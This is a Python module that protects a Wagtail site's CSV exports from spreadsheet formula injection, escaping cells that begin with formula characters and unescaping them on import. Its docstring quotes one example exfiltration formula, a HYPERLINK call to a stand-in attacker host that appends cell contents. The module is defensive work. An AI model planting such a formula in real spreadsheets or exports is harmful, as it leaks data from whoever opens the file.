"""Spreadsheet exports that a spreadsheet program will not run as formulas.

A cell whose text starts with ``= + - @`` (or a tab or carriage return, which some
programs skip before looking for those) is read as a formula when the CSV file is
opened: a title such as ``=HYPERLINK("http://evil.example/?"&A1, "点此")`` written in
the workbench would run on the office's computer. Such cells are written with a
leading apostrophe, which spreadsheet programs show as text and hide. Plain numbers
(``-3``, ``+1.5``) are left as they are: they cannot be formulas, and the ledger's
export is read back by the import. Wagtail's .xlsx export already stores such text
as text, not as a formula.
"""

from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)")


def spreadsheet_text(value: object) -> object:
    """``value`` as a CSV cell that opens as text, never as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def unescape_spreadsheet_text(value: str) -> str:
    """The text a cell held before :func:`spreadsheet_text` (for reading exports back)."""
    if value.startswith("'") and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


class SpreadsheetSafeExportMixin:
    """For views with Wagtail's ``SpreadsheetExportMixin``: CSV cells never formulas."""

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: spreadsheet_text(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )
